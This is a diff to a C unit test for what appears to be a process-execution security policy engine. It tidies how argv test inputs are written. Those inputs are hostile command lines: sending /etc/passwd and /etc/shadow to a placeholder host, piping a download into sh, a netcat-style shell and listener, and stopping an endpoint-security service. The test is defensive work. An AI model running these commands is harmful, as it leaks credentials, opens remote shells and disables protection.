@@ -1407,13 +1407,15 @@ static void test_index_same_verdicts(void **state)
 		"/usr/bin/dd", "/usr/sbin/auditctl", "/usr/bin/nmap", "/tmp/x/sh", "/opt/a b/zz",
 		"/usr/bin/busybox", "/usr/bin/find", "/usr/bin/perl", "/usr/bin/ssh",
 	};
+#define ARGV(s) { s, sizeof(s) - 1 }
 	static const struct { const char *a; size_t n; } argvs[] = {
-		{ "x\0", 2 }, { "x\0-F\0f=@/etc/passwd\0http://h/\0", 32 },
-		{ "x\0clone\0https://h/Log4Shell-exploit\0", 38 },
-		{ "x\0-e\0/bin/sh\0", 14 }, { "x\0--upload-file\0/etc/shadow\0", 29 },
-		{ "x\0stop\0kesl\0", 13 }, { "x\0-c\0curl http://h | sh\0", 26 },
-		{ "x\0-l\0-p\04444\0", 15 },
+		ARGV("x\0"), ARGV("x\0-F\0f=@/etc/passwd\0http://h/\0"),
+		ARGV("x\0clone\0https://h/Log4Shell-exploit\0"),
+		ARGV("x\0-e\0/bin/sh\0"), ARGV("x\0--upload-file\0/etc/shadow\0"),
+		ARGV("x\0stop\0kesl\0"), ARGV("x\0-c\0curl http://h | sh\0"),
+		ARGV("x\0-l\0-p\0" "4444\0"),
 	};
+#undef ARGV
 	char path[4200], dir[4096], a[2048], b[2048];
 	struct policy_diag d;
 	struct policy *p = NULL;
